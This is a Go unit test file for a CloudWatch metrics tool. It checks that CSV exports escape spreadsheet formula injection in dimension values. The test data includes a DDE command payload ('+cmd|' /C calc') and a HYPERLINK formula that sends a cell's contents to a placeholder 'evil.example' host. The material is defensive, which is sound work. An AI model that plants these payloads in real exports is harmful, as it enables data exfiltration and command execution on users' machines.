package cwnb

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"

	"github.com/cwnb/cwnb/cwnb/localcw"
	"github.com/cwnb/cwnb/cwnb/localcw/localcwtest"
)

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"checkout", "checkout"},
		{"", ""},
		{`=HYPERLINK("http://evil","x")`, `'=HYPERLINK("http://evil","x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-5", "-5"},
		{"+1.5e3", "+1.5e3"},
		{"-.5", "-.5"},
		{"-Inf", "'-Inf"},
		{"a=b", "a=b"},
	}
	for _, tc := range tests {
		if got := safeCell(tc.in); got != tc.want {
			t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSVFormulaInjection: dimension values that a spreadsheet would evaluate, published through
// the real SDK and loaded by SEARCH, are written as text in the wide CSV's header and the long
// CSV's cells; the numbers stay numbers; JSON keeps the raw values.
func TestCSVFormulaInjection(t *testing.T) {
	_, url := localcwtest.Start(t, localcw.Options{Now: cacheNow})
	from := cacheNow.Add(-2 * time.Hour)
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)", "-5", "+cmd"}
	var data []types.MetricDatum
	for i, s := range evil {
		data = append(data, types.MetricDatum{MetricName: aws.String("Latency"), Value: aws.Float64(-float64(i + 1)),
			Timestamp:  aws.Time(from),
			Dimensions: []types.Dimension{{Name: aws.String("Service"), Value: aws.String(s)}}})
	}
	if _, err := localcwtest.Client(t, url).PutMetricData(context.Background(), &cloudwatch.PutMetricDataInput{
		Namespace: aws.String("MyService/API"), MetricData: data}); err != nil {
		t.Fatal(err)
	}
	q := Query{Expressions: []Expression{{ID: "s", Expr: "SEARCH('{MyService/API,Service} Latency', 'Minimum')"}},
		Period: time.Minute, Window: Between(from, from.Add(time.Minute))}
	res, err := cacheLoader(t, url, t.TempDir()).Load(context.Background(), q)
	if err != nil {
		t.Fatal(err)
	}
	var wide, long, js bytes.Buffer
	if err := res.WriteCSV(&wide); err != nil {
		t.Fatal(err)
	}
	if err := res.writeLongCSV(&long); err != nil {
		t.Fatal(err)
	}
	if err := res.writeJSON(&js); err != nil {
		t.Fatal(err)
	}
	// What a spreadsheet would evaluate: a cell of a text column starting with = + - @ tab CR,
	// other than a plain number.
	formula := func(s string) bool {
		return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) && s != "-5"
	}
	rows, err := csv.NewReader(&wide).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := append([]string(nil), rows[0][1:]...)
	sort.Strings(header)
	// "-5 Latency" is not a number: a spreadsheet would try it as a formula.
	want := []string{`'+cmd Latency`, "'-5 Latency", `'=HYPERLINK("http://evil.example/?"&A1,"click") Latency`, `'@SUM(1+1) Latency`}
	if strings.Join(header, "|") != strings.Join(want, "|") {
		t.Errorf("wide header %q, want %q", header, want)
	}
	for _, v := range rows[1][1:] {
		if !strings.HasPrefix(v, "-") || strings.HasPrefix(v, "'") {
			t.Errorf("value %q is not a negative number as published", v)
		}
	}
	lrows, err := csv.NewReader(&long).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(lrows) != 1+len(evil) {
		t.Fatalf("%d long rows, want %d", len(lrows), 1+len(evil))
	}
	seen := map[string]bool{}
	for _, row := range lrows[1:] {
		for j, cell := range row[:len(row)-1] {
			if formula(cell) {
				t.Errorf("long CSV %s cell %q would be evaluated", lrows[0][j], cell)
			}
		}
		seen[row[len(row)-2]] = true // the Service column
		if v := row[len(row)-1]; !strings.HasPrefix(v, "-") {
			t.Errorf("value %q is not the negative number published", v)
		}
	}
	for _, s := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(1+1)", "-5", "'+cmd"} {
		if !seen[s] {
			t.Errorf("long CSV lacks the Service cell %q (has %v)", s, seen)
		}
	}
	var out struct {
		Series []struct{ Dimensions map[string]string }
	}
	if err := json.Unmarshal(js.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	raw := map[string]bool{}
	for _, s := range out.Series {
		raw[s.Dimensions["Service"]] = true
	}
	for _, s := range evil {
		if !raw[s] {
			t.Errorf("JSON lacks the raw dimension value %q (has %v)", s, raw)
		}
	}
}
